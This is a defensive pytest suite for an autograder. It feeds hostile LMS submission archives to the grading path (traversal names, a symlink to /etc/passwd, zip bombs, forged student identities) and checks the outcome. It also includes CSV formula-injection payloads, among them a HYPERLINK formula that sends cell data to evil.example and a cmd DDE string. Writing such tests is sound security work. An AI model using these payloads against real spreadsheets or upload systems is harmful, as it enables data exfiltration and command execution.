"""The TA's side under hostile LMS downloads: member names, identity, CSV cells.

Every class here goes through the real grade path (``grade.grade_class``: collect, stage,
record, feedback, summary, similarity, export) with the fast stand-in grader of
:mod:`tests.fakes`, beside honest students, and asserts: one row per student with its
status and the reason, the honest rows identical to grading them alone, nothing written
outside the run folder (and nothing under a name taken from the download). A
property-based fuzz (Hypothesis) throws generated member names at :func:`collect.scan`.
The hostile member names are made by :mod:`autograder.tools.hostile` (one source with
issue 21's measurement).
"""
import csv
import io
import json
import re
import uuid
import zipfile
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings, strategies as st

from autograder import course, export, grade
from autograder.assignments import KitError
from autograder.engine import collect, csvcells, members, report
from autograder.tools import downloads
from autograder.tools.hostile import canvas_name, member_attacks, write_zip
from tests import fakes

UTC = timezone.utc
DUE = datetime(2027, 3, 15, 23, 59, tzinfo=UTC)
COURSE = ('[course]\ntimezone = "UTC"\n\n[roster]\nid = "SIS User ID"\nname = "Student"\n'
          'section = "Section"\nlms_id = "ID"\n')
FULL, HALF = fakes.notebook(), fakes.notebook({"happy_model": ["architecture"]})


def files_outside(root: Path, out: Path) -> dict:
    """Every file under ``root`` but outside the run folder ``out``, with its bytes."""
    return {p: p.read_bytes() for p in root.rglob("*")
            if p.is_file() and not p.is_relative_to(out)}


def csv_cells(path: Path) -> list[str]:
    """Every cell of a CSV file as a spreadsheet would receive it (no quote removed)."""
    text = path.read_text(encoding="utf-8")
    return [cell for line in csv.reader(io.StringIO(text, newline="")) for cell in line]


def grade_zip(zip_path: Path, out: Path, roster: Path | None, course_file: Path | None,
              **options) -> dict:
    grade.grade_class("convnets", zip_path, out, jobs=1, timeout=10, memory_gb=1,
                      progress=False, roster=roster, course_file=course_file, **options)
    return {r["id"]: r for r in report.read_csv(out / "grades.csv")}


# --- hostile member names, graded in a class ---------------------------------------------

@pytest.fixture
def canvas_class(tmp_path, monkeypatch):
    """Five honest students and seven whose files carry one hostile member name each, plus
    two members no student can be found for, in one Canvas download."""
    fakes.use_fake_grader(monkeypatch)
    persons = downloads.people(12)
    escape = f"evil-{uuid.uuid4().hex}.ipynb"  # must never appear outside the run folder
    honest = [(canvas_name(p, 7730000 + i), FULL, "") for i, p in enumerate(persons[:5])]
    hostile = member_attacks(persons[5:], FULL, HALF, escape)  # in MEMBER_ATTACKS' order
    folder = tmp_path / "dl"
    roster = downloads.write_roster(tmp_path / "roster.csv", persons)
    course_file = tmp_path / "course.toml"
    course_file.write_text(COURSE)
    return {"persons": persons, "escape": escape, "roster": roster, "course": course_file,
            "class": write_zip(folder / "class" / "submissions.zip", honest + hostile),
            "alone": write_zip(folder / "alone" / "submissions.zip", honest)}


def test_each_hostile_member_has_its_own_row_and_the_class_is_graded(tmp_path, canvas_class):
    c, persons = canvas_class, canvas_class["persons"]
    out = tmp_path / "run"
    before = files_outside(tmp_path, out)
    rows = grade_zip(c["class"], out, c["roster"], c["course"])
    ids = [p.id for p in persons]
    unidentified = sorted(set(rows) - set(ids))
    assert set(ids) <= set(rows) and len(unidentified) == 2  # every student and stray file

    def row(i):
        return rows[ids[i]]

    expected = {5: "climbs out of the download with '..'", 6: "it is a symbolic link",
                7: "its name is flagged UTF-8 but is not",
                9: "2 members of the download are named"}
    for i, why in expected.items():
        assert row(i)["status"] == "invalid" and why in row(i)["message"], (i, row(i))
        assert row(i)["message"].startswith("Your file") and "Upload the notebook again" in row(i)["message"]
        assert "refused: " in row(i)["notes"] and row(i)["total"] == "0"
    assert row(8)["status"] == "graded" and row(8)["total"] == "14"  # a newline, noted
    assert "control characters, shown as '?' ('\\n')" in row(8)["notes"]
    assert row(10)["total"] == "14" and "it is encrypted" in row(10)["notes"]  # its good file counts
    assert row(11)["status"] == "graded" and "differs only in case" in row(11)["notes"]
    assert "'\\u202e'" in row(11)["notes"]
    messages = sorted(rows[s]["message"] for s in unidentified)
    assert "its name is an absolute path" in messages[0]  # abs-evil-... sorts first
    assert "its name climbs out of the download with '..'" in messages[1]
    for stray in unidentified:
        assert rows[stray]["status"] == "invalid" and "unidentified" in rows[stray]["notes"]
    # Nothing outside the run folder changed; collected/ holds kit-made names only.
    assert files_outside(tmp_path, out) == before
    assert not Path("/tmp", c["escape"]).exists() and not Path("/tmp", "abs-" + c["escape"]).exists()
    # Honest rows are what grading them alone gives.
    alone = grade_zip(c["alone"], tmp_path / "alone-run", c["roster"], c["course"])
    for i in range(5):
        assert row(i) == alone[ids[i]]
    staged = {p.name for p in (out / "collected").iterdir()}
    assert staged == {f"{i}.ipynb" for i in [ids[0], ids[1], ids[2], ids[3], ids[4], ids[8],
                                             ids[10], ids[11]]} | {"manifest.json"}
    # The TA sees every refused row among the submissions that need a look.
    assert all("invalid" in report.needs_a_look(row(i)) for i in expected)
    assert {s for s, _ in report.run_info(out)["skipped"]} == set()


def test_only_what_concerns_the_archive_whole_refuses_it_and_nothing_is_written(
        tmp_path, canvas_class, monkeypatch):
    c = canvas_class
    out = tmp_path / "run"
    before = files_outside(tmp_path, out)
    most = members.MAX_MEMBERS
    monkeypatch.setattr(members, "MAX_MEMBERS", 10)
    with pytest.raises(KitError, match="members, more than the 10 a class download can hold"):
        grade_zip(c["class"], out, c["roster"], c["course"])
    monkeypatch.setattr(members, "MAX_MEMBERS", most)
    with pytest.raises(KitError, match="expand past 0 MB .* zip bomb"):
        collect.scan(c["class"], limit=1000)
    monkeypatch.setattr(members, "MAX_MEMBERS", 1)
    with pytest.raises(KitError, match="more than the 1 files a class download can hold"):
        collect.scan(tmp_path / "dl")  # a folder too (it holds two zips)
    monkeypatch.setattr(members, "MAX_MEMBERS", most)
    truncated = tmp_path / "truncated.zip"
    truncated.write_bytes(c["class"].read_bytes()[:-30])  # the directory's end is cut off
    with pytest.raises(KitError):
        grade_zip(truncated, out, c["roster"], c["course"])
    assert not out.exists() and files_outside(tmp_path, out).keys() - {truncated} == before.keys()


def test_a_member_that_lies_about_its_size_is_that_students_row(tmp_path, monkeypatch):
    fakes.use_fake_grader(monkeypatch)
    persons = downloads.people(2)
    path = write_zip(tmp_path / "dl" / "submissions.zip",
                     [(canvas_name(p, 7730000 + i), FULL, "") for i, p in enumerate(persons)])
    # The central directory says 10 bytes for the second member: it holds more.
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as archive:
        info = archive.infolist()[1]
    directory = data.rfind(b"PK\x01\x02")
    data[directory + 24:directory + 28] = (10).to_bytes(4, "little")
    path.write_bytes(bytes(data))
    rows = grade_zip(path, tmp_path / "run", None, None)
    liar = rows[str(persons[1].canvas_id)]
    assert liar["status"] == "invalid" and "could not be read" in liar["message"], info
    assert rows[str(persons[0].canvas_id)]["total"] == "14"


def test_a_newer_file_refused_or_unreadable_never_replaces_a_grade(tmp_path, monkeypatch):
    """Canvas's next download holds each student's latest file only. When that file is
    refused (a link, encrypted) or cannot be read, the grade already given stands on a rerun
    (the newer file noted, as for any newer file); --regrade alone replaces it."""
    fakes.use_fake_grader(monkeypatch)
    ada, bo, cy = downloads.people(3)
    roster = downloads.write_roster(tmp_path / "roster.csv", [ada, bo, cy])
    course_file = tmp_path / "course.toml"
    course_file.write_text(COURSE)
    out = tmp_path / "run"
    first = write_zip(tmp_path / "dl1" / "submissions.zip",
                      [(canvas_name(p, 7730000 + i), FULL, "") for i, p in enumerate([ada, bo, cy])])
    rows = grade_zip(first, out, roster, course_file)
    assert [rows[p.id]["total"] for p in (ada, bo, cy)] == ["14", "14", "14"]
    second = write_zip(tmp_path / "dl2" / "submissions.zip",
                       [(canvas_name(ada, 7730010), b"/etc/passwd", "link"),
                        (canvas_name(bo, 7730011), HALF, "encrypted"),
                        (canvas_name(cy, 7730012), HALF, "")])
    data = bytearray(second.read_bytes())  # Cy's member says 10 bytes: it holds more
    directory = data.rfind(b"PK\x01\x02")
    data[directory + 24:directory + 28] = (10).to_bytes(4, "little")
    second.write_bytes(bytes(data))
    rows = grade_zip(second, out, roster, course_file)
    for person in (ada, bo, cy):
        assert rows[person.id]["status"] == "graded" and rows[person.id]["total"] == "14"
        assert "a newer download holds another file" in rows[person.id]["notes"]
    rows = grade_zip(second, out, roster, course_file, regrade=True)
    assert [rows[p.id]["status"] for p in (ada, bo, cy)] == ["invalid"] * 3


def test_two_thousand_members_of_one_name_make_one_short_row(tmp_path, monkeypatch):
    """Whatever the download repeats, the student's row stays a row (its notes bounded)."""
    fakes.use_fake_grader(monkeypatch)
    ada, bo = downloads.people(2)
    same = canvas_name(ada, 7730001)
    path = write_zip(tmp_path / "dl" / "submissions.zip",
                     [(same, FULL, "")] * 2000 + [(canvas_name(bo, 7730002), FULL, "")])
    rows = grade_zip(path, tmp_path / "run", None, None)
    ada_row = rows[str(ada.canvas_id)]
    assert ada_row["status"] == "invalid" and "2000 members of the download are named" in ada_row["message"]
    assert "1999 other file(s) refused" in ada_row["notes"] and len(ada_row["notes"]) < 1500
    assert rows[str(bo.canvas_id)]["total"] == "14"


# --- identity ------------------------------------------------------------------------------

def test_moodle_impersonation_by_display_name_is_graded_under_the_participant_id(
        tmp_path, monkeypatch):
    """Bo renames himself after Ada and uploads later: Ada keeps her grade and her notebook,
    Bo's file is graded as Bo's, the TA is told, and the export never mixes them."""
    fakes.use_fake_grader(monkeypatch)
    ada, bo, cy = downloads.people(3)
    path = tmp_path / "dl" / "moodle.zip"
    write_zip(path, [
        (f"{ada.name}_{ada.participant}_assignsubmission_file/week3.ipynb", FULL, ""),
        (f"{ada.name}_{bo.participant}_assignsubmission_file/week3.ipynb", HALF, ""),
        (f"{cy.name}_{cy.participant}_assignsubmission_file/week3.ipynb", FULL, "")])
    roster = downloads.write_roster(tmp_path / "roster.csv", [ada, bo, cy], style="kit")
    sheet = downloads.moodle_worksheet(tmp_path / "worksheet.csv", [ada, bo, cy])
    out = tmp_path / "run"
    rows = grade_zip(path, out, roster, None, worksheet=sheet)
    assert rows[ada.id]["total"] == "14" and "earlier attempt" not in rows[ada.id]["notes"]
    assert rows[bo.id]["total"] == "4" and rows[bo.id]["name"] == bo.name
    assert f"identity: the name '{ada.name}'" in rows[bo.id]["notes"]
    assert f"that of {ada.id} on the roster" in rows[bo.id]["notes"]
    assert f"the grading worksheet names participant {bo.participant} '{bo.name}'" in rows[bo.id]["notes"]
    assert "identity to check" in report.needs_a_look(rows[bo.id])
    assert not report.needs_a_look(rows[cy.id])
    folder, _ = export.export(out, "moodle")
    sheet_rows = {r["Identifier"]: r for r in csv.DictReader(io.StringIO(
        (folder / "grading-worksheet.csv").read_text()))}
    assert sheet_rows[f"Participant {ada.participant}"]["Grade"] == "14"
    assert sheet_rows[f"Participant {bo.participant}"]["Grade"] == "4"
    assert sheet_rows[f"Participant {bo.participant}"]["Full name"] == bo.name
    with zipfile.ZipFile(folder / "feedback.zip") as archive:
        for name in archive.namelist():
            participant = name.split("_")[1]
            owner = next(p for p in (ada, bo, cy) if str(p.participant) == participant)
            assert name.startswith(owner.name)
            assert archive.read(name) == (out / "feedback" / f"{owner.id}.html").read_bytes()
    # A roster without participant ids and no worksheet: refused, nothing graded by name.
    with pytest.raises(KitError, match="pass WORKSHEET="):
        grade_zip(path, tmp_path / "run2", roster, None)
    assert not (tmp_path / "run2").exists()


def canvas_member(sortable: str, user: int, attachment: int, file: str) -> str:
    """A member name as Canvas's ContentZipper writes it (``sanitize_user_name``: ``_(\\d+)_``
    collapsed; then ``sanitize_file_name``: every non-word character removed)."""
    name = re.sub(r"_(\d+)_", r"\1", sortable).lower()
    prefix = re.sub(r"[^\w]", "", f"{name}_{user}")
    return f"{prefix}_{attachment}_{file}"


def test_a_canvas_name_holding_another_users_id_never_outranks_that_users_file(
        tmp_path, monkeypatch):
    """Mal names himself 'Ezekiel, Ai_ <Ada's id>_ 99999999999' in Canvas: Canvas's own
    sanitising leaves ``<ada's lastfirst>_<ada's id>_99999999999__<mal's id>_...``, which
    reads as Ada's file with the largest attachment id. Ada's own file is graded, Mal's
    is listed under her row for the TA to check, and nothing is silent."""
    fakes.use_fake_grader(monkeypatch)
    ada, mal, cy = downloads.people(3)
    forged = f"{ada.sortable}_ {ada.canvas_id}_ 99999999999_"
    honest = canvas_member(ada.sortable, ada.canvas_id, 7730144, "week3.ipynb")
    assert honest == canvas_name(ada, 7730144)
    path = write_zip(tmp_path / "dl" / "submissions.zip", [
        (honest, FULL, ""),
        (canvas_member(forged, mal.canvas_id, 7730200, "week3.ipynb"), HALF, ""),
        (canvas_member(cy.sortable, cy.canvas_id, 7730300, "hw_3_1_week3.ipynb"), FULL, "")])
    roster = downloads.write_roster(tmp_path / "roster.csv", [ada, mal, cy])
    course_file = tmp_path / "course.toml"
    course_file.write_text(COURSE)
    rows = grade_zip(path, tmp_path / "run", roster, course_file)
    assert rows[ada.id]["total"] == "14" and rows[ada.id]["status"] == "graded"
    assert f"also reads as Canvas user {mal.canvas_id}'s" in rows[ada.id]["notes"]
    assert "identity to check" in report.needs_a_look(rows[ada.id])
    assert rows[mal.id]["status"] == "missing"
    # An honest file name holding _<digits>_<digits>_ of no known user is not a doubt.
    assert rows[cy.id]["total"] == "14" and "identity" not in rows[cy.id]["notes"]


def gradescope_zip(path: Path, submissions: list) -> Path:
    """A Gradescope export of (folder number, [(sid, name, email)], created, notebook)."""
    root, lines, files = "assignment_1_export", [], []
    for number, people, created, notebook in submissions:
        folder = f"submission_{number}"
        files.append((f"{root}/{folder}/week3.ipynb", notebook, ""))
        lines += [f"{folder}:", "  :submitters:"]
        for sid, name, email in people:  # JSON strings are YAML's double-quoted scalars
            lines += [f"  - :name: {json.dumps(name)}", f"    :sid: {json.dumps(sid)}",
                      f"    :email: {json.dumps(email)}"]
        lines += [f"  :created_at: {created.isoformat()}", "  :history: []"]
    files.append((f"{root}/submission_metadata.yml", "\n".join(lines).encode(), ""))
    return write_zip(path, files)


def test_two_submissions_claiming_one_student_id_are_listed_not_resolved(tmp_path, monkeypatch):
    fakes.use_fake_grader(monkeypatch)
    path = gradescope_zip(tmp_path / "dl" / "gs.zip", [
        (11, [("s1001", "Ada Abe", "ada@example.edu")], DUE - timedelta(hours=5), FULL),
        (12, [("s1001", "Mal Lory", "mal@example.edu")], DUE - timedelta(hours=1), HALF),
        (13, [("s1002", "Bo Cruz", "bo@example.edu")], DUE - timedelta(hours=2), FULL)])
    # A student's own file named like Gradescope's metadata says nothing of who submitted.
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr("assignment_1_export/submission_13/submission_metadata.yml",
                         "submission_11:\n  :submitters:\n  - :sid: 's1002'\n")
    rows = grade_zip(path, tmp_path / "run", None, None)
    assert sorted(rows) == ["s1001", "s1002"]
    assert report.run_info(tmp_path / "run")["skipped"] == [[
        "gs.zip:assignment_1_export/submission_13/submission_metadata.yml",
        "not Gradescope's metadata (inside a submission): not read"]]
    assert "identity: 2 files claim this id under 2 different names or folders" in rows["s1001"]["notes"]
    assert "identity to check" in report.needs_a_look(rows["s1001"])
    assert rows["s1002"]["total"] == "14" and "identity" not in rows["s1002"]["notes"]


def test_an_lms_key_that_reads_as_another_students_id_once_made_safe_is_its_own_row(
        tmp_path, monkeypatch):
    """Mal's Gradescope sid is '.s1001', on no roster row: made safe it reads 's1001', Ada's
    id. It used to join Ada's row (and, listed after hers, turn it into one 'not on the
    roster', her name and e-mail gone, Mal's file graded as hers). Now it is a row of its
    own, with a roster and without."""
    fakes.use_fake_grader(monkeypatch)
    ada, bo = downloads.people(2)
    path = gradescope_zip(tmp_path / "dl" / "gs.zip", [
        (11, [(ada.id, ada.name, ada.email)], DUE - timedelta(hours=5), FULL),
        (12, [("." + ada.id, ada.name, "mal@example.edu")], DUE - timedelta(hours=1), HALF),
        (13, [(bo.id, bo.name, bo.email)], DUE - timedelta(hours=2), FULL)])
    roster = downloads.write_roster(tmp_path / "roster.csv", [ada, bo], style="kit")
    for run, with_roster in (("alone", None), ("run", roster)):
        rows = grade_zip(path, tmp_path / run, with_roster, None)
        assert rows[ada.id]["total"] == "14" and "earlier attempt" not in rows[ada.id]["notes"]
        assert rows[f"{ada.id}_2"]["total"] == "4"
    assert rows[ada.id]["name"] == ada.name and "not on the roster" not in rows[ada.id]["notes"]
    assert "not on the roster" in rows[f"{ada.id}_2"]["notes"]


# --- CSV cells --------------------------------------------------------------------------------

FORMULAS = [("=1+1", '=HYPERLINK("http://evil.example/?"&A1,"x")', "@SUM(1+1)@example.edu"),
            ("-42", "+cmd|' /C calc'!A0", "-2+3@example.edu"),
            ("@s9", "\tTab Name", "+x@example.edu")]


def test_formula_cells_are_text_in_every_csv_the_kit_writes(tmp_path, monkeypatch):
    fakes.use_fake_grader(monkeypatch)
    submissions = [(20 + n, [person], DUE - timedelta(hours=n), FULL if n else HALF)
                   for n, person in enumerate(FORMULAS)]
    path = gradescope_zip(tmp_path / "dl" / "gs.zip", submissions)
    out = tmp_path / "run"
    rows = grade_zip(path, out, None, None)
    assert sorted(rows) == ["_1+1", "_42", "_s9"]  # ids never start with = + - @
    # The kit reads its own files back as they were.
    assert {r["name"] for r in rows.values()} == {name for _, name, _ in FORMULAS}
    for lms in export.LMS:
        export.export(out, lms, column="Week 1 (1)")
    written = sorted(p for p in out.rglob("*.csv"))
    names = {p.relative_to(out).as_posix() for p in written}
    assert {"grades.csv", "stages.csv", "export/canvas/gradebook.csv", "export/moodle/grades.csv",
            "export/csv/grades.csv"} <= names
    cells = [(p.name, cell) for p in written for cell in csv_cells(p)]
    assert len(cells) > 100
    assert [c for c in cells if c[1][:1] in csvcells.FORMULA_STARTS] == []
    plain = list(csv.DictReader(io.StringIO((out / "export/csv/grades.csv").read_text())))
    assert {r["email"] for r in plain} == {"'" + email for _, _, email in FORMULAS}


def test_a_roster_id_starting_like_a_formula_is_refused(tmp_path):
    for text in ("-5", "+5", "@5", "=5"):
        assert collect.safe_id(text) != text
        roster = tmp_path / "roster.csv"
        roster.write_text(f"id,name\n{text},A\n")
        with pytest.raises(KitError, match=re.escape(f"roster.csv line 2, column id: the id '{text}'")):
            course.read_roster(roster)


# --- a fuzz of collect over generated member names ---------------------------------------------

NAME_PARTS = st.sampled_from(["..", ".", "", "a", "A", "week3", "s1001", "\\", "/", "\n", "\r",
                              "\x00", "\u202e", "ä", "C:", "~", " ", "__MACOSX", "._x", ".ipynb"])
MEMBER = st.tuples(st.builds("".join, st.lists(NAME_PARTS, min_size=1, max_size=6))
                   .flatmap(lambda n: st.sampled_from([n + ".ipynb", n + ".ipynb", n + ".IPYNB",
                                                       n, n + "/", n + ".txt"])),
                   st.sampled_from(["", "", "", "link", "encrypted"]))


FUZZ = {"empty": 0, "scanned": 0, "refused": 0}  # what the generated downloads exercised


@settings(max_examples=300, deadline=None, derandomize=True, database=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(generated=st.lists(MEMBER, min_size=1, max_size=8))
def test_collect_accounts_for_every_generated_member(tmp_path, generated):
    """Whatever the names: no exception but the kit's, every member found or listed as
    skipped, each readable file staged whole under a kit-made name, nothing else written."""
    case = tmp_path / uuid.uuid4().hex
    target = case / "collected"
    target.mkdir(parents=True)
    data = {name: f"content of member {index}".encode() for index, (name, _) in enumerate(generated)}
    path = write_zip(case / "dl.zip", [(name, data[name], kind) for name, kind in generated if name])
    try:
        download = collect.scan(path, layout="folder")
    except KitError as exc:  # only: nothing that could be a notebook in it
        assert "no .ipynb file" in str(exc)
        FUZZ["empty"] += 1
        return
    FUZZ["scanned"] += 1
    FUZZ["refused"] += len(download.refused)
    tree = members.Tree(path, UTC, members.MAX_EXPANDED_BYTES)
    listed = {m for m, item in tree.files.items() if not collect.JUNK.search(item.name)}
    accounted = [f.member for f in download.found] + [s for s, _ in download.skipped]
    assert sorted(accounted) == sorted(tree.source(m) if m not in {f.member for f in download.found}
                                       else m for m in listed)
    for entry in collect.assign(download):
        if entry.found is None:
            continue
        assert "/" not in entry.id and not entry.id.startswith(".")
        destination = target / f"{entry.id}.ipynb"
        try:
            collect.stage(entry.found, destination)
        except collect.Unreadable:
            assert entry.found.refused, entry.found
            continue
        assert not entry.found.refused and destination.read_bytes() in data.values()
    written = {p for p in case.rglob("*") if p.is_file()} - {path}
    assert all(p.parent == target for p in written), written


def test_the_fuzz_exercised_refusals_and_graded_files():
    """Runs after the fuzz (same module, in order): most generated downloads held a
    notebook, and members were refused on their own."""
    if not FUZZ["scanned"]:
        pytest.skip("run with the fuzz above")
    assert FUZZ["scanned"] > FUZZ["empty"] and FUZZ["refused"] > 50, FUZZ
